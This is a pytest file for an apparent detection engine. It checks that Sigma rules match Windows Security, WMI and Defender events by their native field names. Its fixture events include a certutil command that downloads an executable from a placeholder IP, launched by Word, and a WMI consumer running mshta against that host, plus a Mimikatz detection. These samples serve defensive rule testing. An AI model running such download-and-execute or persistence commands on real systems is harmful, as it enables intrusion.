"""Rules in Sigma's names on events that call things otherwise: a rule that must fire, an event on which it must not."""

import textwrap
from pathlib import Path
from typing import Any

import pytest

from correlator.compiler.compile import compile_files
from correlator.rules import RuleSet, plain
from soc.events import LogSource
from soc.taxonomy import covers, logsources, names, native, windows
from soc.taxonomy.naming import DEVICES, SAME

HEAD = """\
title: A rule under test
id: 00000000-0000-4000-8000-000000000002
level: high
logsource:
    product: windows
    {stated}
detection:
"""
SECURITY = {"Channel": "Security", "Computer": "ws7.example.vn"}
CREATED: dict[str, Any] = {
    **SECURITY,
    "EventID": 4688,
    "SubjectUserName": "lan",
    "SubjectLogonId": "0x3e7",
    "NewProcessId": "0xbc8",
    "NewProcessName": r"C:\Windows\System32\certutil.exe",
    "ProcessId": "0x3b0",
    "ParentProcessName": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    "CommandLine": "certutil -urlcache -f http://203.0.113.9/a.txt a.exe",
    "MandatoryLabel": "S-1-16-12288",
}
ENDED: dict[str, Any] = {
    **SECURITY,
    "EventID": 4689,
    "ProcessName": r"C:\Program Files\Acme\agent.exe",
    "ProcessId": "0xad4",
    "Status": "0xc0000005",
}
CONNECTED: dict[str, Any] = {
    **SECURITY,
    "EventID": 5156,
    "ProcessID": "2348",
    "Application": r"\device\harddiskvolume2\windows\system32\notepad.exe",
    "Direction": "%%14593",
    "SourceAddress": "10.1.2.3",
    "SourcePort": "52888",
    "DestAddress": "203.0.113.9",
    "DestPort": "443",
    "Protocol": "6",
}
BOUND: dict[str, Any] = {
    "Channel": "Microsoft-Windows-WMI-Activity/Operational",
    "EventID": 5861,
    "Namespace": "//./root/subscription",
    "PossibleCause": 'instance of CommandLineEventConsumer { CommandLineTemplate = "mshta http://203.0.113.9/x"; };',
}
DETECTED: dict[str, Any] = {
    "Channel": "Microsoft-Windows-Windows Defender/Operational",
    "EventID": 1116,
    "Threat Name": "HackTool:Win32/Mimikatz.D",
    "Source Name": "AMSI",
    "Feature Name": "%%886",
    "Process Name": r"C:\Users\lan\Downloads\m.exe",
    "Path": r"file:_C:\Users\lan\Downloads\m.exe",
}


def hits(folder: Path, stated: str, selection: str, event: dict[str, Any]) -> list[str]:
    """Return the fields by which a rule with that logsource and selection fires on an event, as the reasons name them.

    The engine and the plain evaluator must agree.
    """
    file = folder / "rule.yml"
    body = selection if "condition:" in selection else f"sel:\n{textwrap.indent(selection, '    ')}\ncondition: sel"
    file.write_text(HEAD.format(stated=stated) + textwrap.indent(body, "    "), encoding="utf-8")
    compiled = compile_files([file], {})
    assert not compiled.failures
    rules = RuleSet(compiled.rules)
    found = rules.evaluate(windows(event), event)
    assert [hit.rule for hit in found] == [hit.rule for hit in plain(rules.covering(windows(event)), event)]
    return [str(reason.field) for hit in found for reason in hit.reasons]


CREATION = "category: process_creation"
CONNECTION = "category: network_connection"


@pytest.mark.parametrize(
    ("stated", "selection", "event", "by"),
    [
        (CREATION, r"Image|endswith: '\certutil.exe'", CREATED, ["NewProcessName"]),
        (CREATION, r"ParentImage|endswith: '\winword.exe'", CREATED, ["ParentProcessName"]),
        (CREATION, "ParentProcessId: '0x3b0'", CREATED, ["ProcessId"]),
        (CREATION, "ProcessId: '0xbc8'", CREATED, ["NewProcessId"]),
        (CREATION, "IntegrityLevel: [High, S-1-16-12288]", CREATED, ["MandatoryLabel"]),
        (CREATION, "CommandLine|contains|all: [urlcache, http]", CREATED, ["CommandLine", "CommandLine"]),
        (
            CREATION,
            "image:\n  - Image|endswith: '\\certutil.exe'\n  - OriginalFileName: CertUtil.exe\ncondition: image",
            CREATED,
            ["NewProcessName"],
        ),
        ("category: process_termination", r"Image|endswith: '\agent.exe'", ENDED, ["ProcessName"]),
        (CONNECTION, "DestinationIp|cidr: 203.0.113.0/24", CONNECTED, ["DestAddress"]),
        (CONNECTION, r"Image|endswith: '\notepad.exe'", CONNECTED, ["Application"]),
        (CONNECTION, "DestinationPort: 443\nSourcePort: 52888", CONNECTED, ["DestPort", "SourcePort"]),
        (CONNECTION, "SourceIp|startswith: '10.'\nProcessId: 2348", CONNECTED, ["SourceAddress", "ProcessID"]),
        ("category: wmi_event", "Destination|contains: mshta", BOUND, ["PossibleCause"]),
        (
            "service: windefend",
            "ThreatName|contains: Mimikatz\nSourceName: AMSI",
            DETECTED,
            ["Threat Name", "Source Name"],
        ),
        ("service: windefend", "Threat Name|contains: Mimikatz", DETECTED, ["Threat Name"]),
        ("service: windefend", "Feature_Name: '%%886'\nPath|endswith: m.exe", DETECTED, ["Feature Name", "Path"]),
    ],
)
def test_a_rule_fires_by_the_names_that_the_event_has(
    tmp_path: Path, stated: str, selection: str, event: dict[str, Any], by: list[str]
) -> None:
    """And the reasons name the event's fields, not the rule's."""
    assert hits(tmp_path, stated, selection, event) == by


@pytest.mark.parametrize(
    ("stated", "selection", "event"),
    [
        (CREATION, r"Image|endswith: '\winword.exe'", CREATED),
        (CREATION, "ProcessId: '0x3b0'", CREATED),
        (CREATION, "User: lan", CREATED),
        (CREATION, "LogonId: '0x3e7'", CREATED),
        (CREATION, "OriginalFileName: CertUtil.exe", CREATED),
        (CREATION, "sel:\n  EventID: 4688\nno_path:\n  Image|contains: '\\'\ncondition: sel and not no_path", CREATED),
        ("category: process_termination", r"Image|endswith: '\other.exe'", ENDED),
        (CONNECTION, "DestinationIp|cidr: 10.0.0.0/8", CONNECTED),
        (CONNECTION, "DestinationHostname|endswith: example.com", CONNECTED),
        ("category: wmi_event", "Destination|contains: powershell", BOUND),
        ("service: windefend", "ThreatName|contains: Emotet", DETECTED),
        ("category: process_creation\n    service: security", r"Image|endswith: '\certutil.exe'", CREATED),
        ("service: security", r"Image|endswith: '\certutil.exe'", CREATED),
    ],
)
def test_a_rule_does_not_fire_by_what_another_field_says(
    tmp_path: Path, stated: str, selection: str, event: dict[str, Any]
) -> None:
    """The creator is not the process; a field without a counterpart stays missing; a stated service means its names."""
    assert hits(tmp_path, stated, selection, event) == []


def test_a_rule_of_the_service_sees_the_event_by_its_own_names(tmp_path: Path) -> None:
    """That Security 4688 is a process creation takes it from no rule for Security."""
    selection = r"NewProcessName|endswith: '\certutil.exe'"
    assert hits(tmp_path, "service: security", selection, CREATED) == ["NewProcessName"]


def test_sysmons_events_have_sigmas_names() -> None:
    """They are where the names are from."""
    rule = LogSource("windows", "process_creation")
    assert native(rule, LogSource("windows", "process_creation", "sysmon")) is SAME
    assert not names(rule, LogSource("windows", "process_creation", "sysmon"))


def test_a_kind_of_event_is_told_by_one_object() -> None:
    """Who keeps what was made of a rule can tell by identity whether it is the same again."""
    rule, event = LogSource(None, "process_creation"), LogSource("windows", "process_creation", "security")
    assert native(rule, event) is native(LogSource("windows", "process_creation"), event)
    assert native(rule, event).names is names(rule, event)


def test_every_kind_with_names_of_its_own_is_one_that_events_have() -> None:
    """A logsource that is written wrong would never be asked for."""
    kinds = [event for event in logsources() if native(LogSource(None, event.category), event) is not SAME]
    assert len(kinds) == 5
    assert all(covers(LogSource("windows", event.category), event) for event in kinds)


def test_values_that_the_event_writes_otherwise_are_told_by_the_rules_field() -> None:
    """In lower case, with each way in which Windows and those who render its messages write them."""
    told = native(LogSource(None, "network_connection"), LogSource("windows", "network_connection", "security"))
    assert told.values["Initiated"]["true"] == ("%%14593", "Outbound")
    assert told.values["Protocol"] == {"tcp": ("6",), "udp": ("17",)}
    assert told.devices == {"Image"}
    assert all(device.startswith("\\device\\") for device in DEVICES)
    for how in (native(LogSource(None, event.category), event) for event in logsources()):
        assert all(value == value.lower() for values in how.values.values() for value in values)
